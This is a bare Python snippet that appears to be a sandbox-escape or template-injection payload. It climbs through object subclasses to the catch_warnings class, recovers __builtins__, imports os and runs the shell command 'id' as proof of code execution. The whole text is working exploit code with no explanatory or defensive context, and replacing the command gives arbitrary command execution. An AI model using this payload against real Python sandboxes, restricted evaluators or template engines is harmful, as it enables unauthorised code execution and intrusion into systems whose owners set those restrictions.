for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "catch_warnings":
        b = c()._module.__builtins__
        b["__import__"]("os").system("id")
        break
